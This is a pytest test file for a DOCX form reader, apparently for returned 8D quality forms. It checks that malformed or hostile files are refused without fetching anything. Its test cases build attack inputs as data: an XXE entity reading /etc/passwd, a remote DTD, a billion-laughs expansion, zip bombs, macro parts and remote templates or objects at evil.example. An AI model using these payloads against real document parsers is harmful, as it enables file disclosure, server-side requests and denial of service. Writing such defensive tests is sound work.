"""Files that are no form, or worse: each is refused with one sentence, nothing is fetched and nothing breaks."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import pytest
from docx import Document
from docx.oxml.ns import qn
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cases.returned import Returned
from parsers.form_refusals import SENTENCES
from tests.generator.docx_reading import BODY, edited, filled, packed, parts
from tests.parsers.form_filling import ANSWERS, READ, cell, changed, returned, xml

RELATIONS = "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"


def code(form: Returned) -> str:
    """The one finding of a refused file, whose sentences are the known ones."""
    (finding,) = form.findings
    assert finding.level == "block" and form.fields == {} and form.rows == {}
    name = finding.rule.removeprefix("FORM-")
    assert (finding.zh, finding.en) == SENTENCES[name]
    return name


def with_relation(kind: str, target: str) -> bytes:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relation = f'<Relationship Id="rX" Type="{base}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return edited(returned(), RELATIONS, "</Relationships>", relation)


def with_part(name: str, content: bytes) -> bytes:
    return packed({**parts(returned()), name: content})


def with_body(start: bytes) -> bytes:
    body = parts(returned())[BODY]
    return packed({**parts(returned()), BODY: start + body[body.index(b"<w:document") :]})


def bomb() -> bytes:
    return with_part("word/media/image1.png", b"\0" * (70 * 2**20))


def lying_bomb() -> bytes:
    """A document part of 30 MB that states a size of 1,000 bytes in the directory."""
    docx = bytearray(packed({**parts(returned()), BODY: b"<w:document>" + b" " * (30 * 2**20)}))
    at = docx.rindex(BODY.encode()) - 46
    assert docx[at : at + 4] == b"PK\x01\x02"
    docx[at + 24 : at + 28] = (1000).to_bytes(4, "little")
    return bytes(docx)


def locked() -> bytes:
    docx = bytearray(returned())
    for at in (docx.index(b"PK\x03\x04") + 6, docx.index(b"PK\x01\x02") + 8):
        docx[at] |= 1
    return bytes(docx)


def deep(levels: int = 400) -> bytes:
    inside = b"<w:sdt><w:sdtContent>" * levels + b"</w:sdtContent></w:sdt>" * levels
    body = parts(returned())[BODY]
    return packed({**parts(returned()), BODY: body.replace(b"<w:body>", b"<w:body>" + inside, 1)})


def long_cell() -> bytes:
    def fill(tree: Any) -> None:
        cell(tree, "d4.tua").find(qn("w:p")).append(xml(f"<w:r><w:t>{'长' * (5 * 2**20 // 3)}</w:t></w:r>"))

    return changed(returned(), fill)


def many_lines() -> bytes:
    def fill(tree: Any) -> None:
        for _ in range(2000):
            cell(tree, "d4.tua").append(xml(f"<w:p><w:r><w:t>{'x' * 100}</w:t></w:r></w:p>"))

    return changed(returned(), fill)


def own_document() -> bytes:
    document: Any = Document()
    document.add_paragraph("8D 报告见附图")
    document.add_table(2, 2).cell(0, 0).text = "根本原因"
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)
CASES = {
    "nothing": (b"", "empty"),
    "text": ("您好".encode(), "not-a-form"),
    "pdf": (b"%PDF-1.7", "not-a-form"),
    "a zip of something else": (packed({"a.txt": b"x"}), "not-a-form"),
    "an xlsx": (edited(returned(), TYPES, "wordprocessingml.document.main", "spreadsheetml.sheet.main"), "not-a-form"),
    "cut off": (returned()[: len(returned()) // 2], "damaged"),
    "a flipped byte": (returned()[:600] + b"\xff\xff" + returned()[602:], "damaged"),
    "broken XML": (edited(returned(), BODY, "</w:body>", ""), "damaged"),
    "no body": (packed({**parts(returned()), BODY: b"<x/>"}), "not-a-form"),
    "a password (OLE2)": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
    "a password (zip)": (locked(), "encrypted"),
    "OLE2 of something else": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 nothing", "not-a-form"),
    "a docm": (
        edited(returned(), TYPES, "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
               "vnd.ms-word.document.macroEnabled.main+xml"),
        "macros",
    ),
    "a docm called docx": (with_part("word/vbaProject.bin", b"x"), "macros"),
    "a bomb": (bomb(), "too-large"),
    "a bomb that lies": (lying_bomb(), "damaged"),
    "too many parts": (packed({**parts(returned()), **{f"word/x{n}": b"" for n in range(1001)}}), "too-large"),
    "nested": (deep(), "too-deep"),
    "5 MB in a cell": (long_cell(), "too-long"),
    "200,000 characters in a cell": (many_lines(), "too-long"),
    "a file of the server": (
        with_body(b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), "doctype"
    ),
    "a remote DTD": (with_body(b'<?xml version="1.0"?><!DOCTYPE d SYSTEM "http://127.0.0.1:9/x.dtd">'), "doctype"),
    "a billion laughs": (with_body(ENTITIES), "doctype"),
    "a remote template": (with_relation("attachedTemplate", "http://evil.example/t.dotm"), "outside"),
    "a template on a share": (with_relation("attachedTemplate", "file://server/share/t.dotm"), "outside"),
    "a remote picture": (with_relation("image", "http://evil.example/1.png"), "outside"),
    "a remote object": (with_relation("oleObject", "http://evil.example/o"), "outside"),
    "somebody's own document": (own_document(), "unknown-form"),
}  # fmt: skip


@pytest.mark.parametrize("name", CASES)
def test_what_is_no_form_is_refused_with_one_sentence(name: str) -> None:
    content, why = CASES[name]
    assert code(READ(content)) == why


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("hyperlink", "mailto:chen.lq@example.cn"),
        ("hyperlink", "https://example.com/"),
        ("attachedTemplate", "file:///C:\\Users\\chen\\Normal.dotm"),
    ],
)
def test_links_and_the_senders_own_template_do_no_harm(kind: str, target: str) -> None:
    form = READ(with_relation(kind, target))
    assert form.findings == () and form.text("d4.tua") == ANSWERS["d4.tua"]


def test_text_that_looks_like_markup_or_template_is_only_text() -> None:
    typed = "{{ 7*7 }} {% for x in y %} </w:t></w:r> a<b & c 〔"
    assert READ(filled(returned(), {"d4.tua": typed})).text("d4.tua") == typed


def test_a_form_saved_as_strict_open_xml_is_read() -> None:
    """ISO/IEC 29500-1 Strict: other addresses for the same words."""
    pairs = (
        (b"http://schemas.openxmlformats.org/wordprocessingml/2006/", b"http://purl.oclc.org/ooxml/wordprocessingml/"),
        (b"http://schemas.openxmlformats.org/officeDocument/2006/", b"http://purl.oclc.org/ooxml/officeDocument/"),
    )
    strict = dict(parts(returned()))
    for old, new in pairs:
        strict = {name: data if name == TYPES else data.replace(old, new) for name, data in strict.items()}
    assert READ(packed(strict)).text("d4.tua") == ANSWERS["d4.tua"]


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.integers(0, 2**31), st.integers(0, 255), st.integers(1, 40))
def test_no_damage_makes_the_reader_fail(place: int, byte: int, length: int) -> None:
    docx = bytearray(returned())
    at = place % len(docx)
    docx[at : at + length] = bytes([byte]) * length
    form = READ(bytes(docx))
    assert form.findings or form.fields


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.integers(0, 2**31), st.sampled_from(["w:p", "w:tc", "w:tr", "w:tbl", "w:r", "w:tcPr", "w:pPr", "w:gridSpan"]))
def test_no_missing_element_makes_the_reader_fail(place: int, tag: str) -> None:
    def remove(tree: Any) -> None:
        elements = list(tree.iter(qn(tag)))
        gone = elements[place % len(elements)]
        gone.getparent().remove(gone)

    form = READ(changed(returned(), remove))
    assert form.form == "F16a"


def test_any_zip_of_anything_is_answered() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(TYPES, "<Types/>")
    assert code(READ(out.getvalue())) == "not-a-form"
